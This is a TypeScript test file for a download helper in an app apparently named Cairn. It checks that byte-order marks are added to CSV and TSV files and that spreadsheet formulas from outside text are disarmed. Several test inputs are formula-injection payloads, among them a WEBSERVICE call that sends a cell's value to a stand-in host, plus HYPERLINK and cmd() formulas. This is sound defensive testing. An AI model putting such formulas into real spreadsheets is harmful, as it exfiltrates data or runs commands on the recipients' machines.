import { expect, test } from 'vitest';
import { contentForDownload } from '../../../src/records/downloaded-content.ts';
import type { SessionFile } from '../../../src/records/session-file.ts';

const downloaded = (file: Partial<SessionFile>) => contentForDownload(file as SessionFile);

test.each([
  ['sums.csv', 'Region\nSüd\n', '\ufeffRegion\nSüd\n'],
  ['sums.TSV', 'Region\n南\n', '\ufeffRegion\n南\n'],
  ['sums.csv', 'Region\nNord\n', 'Region\nNord\n'],
  ['sums.csv', '\ufeffSüd\n', '\ufeffSüd\n'],
  ['bytes.csv', 'data:text/csv;base64,U/xk', 'data:text/csv;base64,U/xk'],
  ['Süd.md', 'Süd', 'Süd'],
])('R9.7 a table is handed over so that spreadsheet programs read its letters: %s, %j', (name, content, expected) => {
  expect(downloaded({ name, content })).toBe(expected);
});

test('R9.7 a file that the person added comes back as it was', () => {
  expect(downloaded({ name: 'a.csv', content: 'Süd', added: true })).toBe('Süd');
  const original = 'data:text/csv;base64,77u/U8O8ZA==';
  expect(downloaded({ name: 'a.csv', content: 'Süd', original, added: true })).toBe(original);
  expect(downloaded({ name: 'a (as added).csv', content: 'Süd', original })).toBe(original);
});

const formulas =
  'n,note\n1,=HYPERLINK("x")\n-2.5,"=WEBSERVICE(""http://e.example/""&A1)"\n+4 %,@SUM(1)\n-,"\t=1"\n-1+2,a-b\n';

test.each([
  ['=1+1', "'=1+1"],
  ['a;=cmd()', "a;'=cmd()"],
  [' =1', " '=1"],
  ['"=1', `"'=1`],
  ['-1.234,50 $', '-1.234,50 $'],
  ['+49 30 123', '+49 30 123'],
  ['1e-3,-1E+5', '1e-3,-1E+5'],
  ['"a, =b"', '"a, =b"'],
  ['\ufeff=HYPERLINK("x")', `\ufeff'=HYPERLINK("x")`],
  ['sep=|\na|=HYPERLINK("x")', `sep=|\na|'=HYPERLINK("x")`],
  ['＝1+1', "\ufeff'＝1+1"],
  ['a\tb\n1\tgood, -really nice; =) smile', 'a\tb\n1\tgood, -really nice; =) smile'],
  ['a;b\n1;Hi, @Anna', 'a;b\n1;Hi, @Anna'],
  ['-10 EUR', '-10 EUR'],
  ['+49-170-1234567', '+49-170-1234567'],
  ['"a""b,=1",=2', `"a""b,=1",'=2`],
  [
    formulas,
    `n,note\n1,'=HYPERLINK("x")\n-2.5,"'=WEBSERVICE(""http://e.example/""&A1)"\n+4 %,'@SUM(1)\n-,"'\t=1"\n'-1+2,a-b\n`,
  ],
])('R13.4 formulas of others in a table that Cairn wrote are disarmed in its download: %j', (content, expected) => {
  expect(downloaded({ name: 'a.csv', content, foreign: true })).toBe(expected);
});

test('R13.4 tables without text from outside, the person’s own and files that are no tables keep what they hold', () => {
  expect(downloaded({ name: 'a.csv', content: formulas })).toBe(formulas);
  expect(downloaded({ name: 'a.csv', content: formulas, foreign: true, added: true })).toBe(formulas);
  expect(downloaded({ name: 'a.md', content: formulas, foreign: true })).toBe(formulas);
});

test('R13.4 a quote that is never closed is no long work', () => {
  const long = `a,b\n1,"${'x'.repeat(200_000)}\n=1,=2`;
  expect(downloaded({ name: 'a.csv', content: long, foreign: true })).toBe(long.replace('=1,=2', "'=1,'=2"));
});
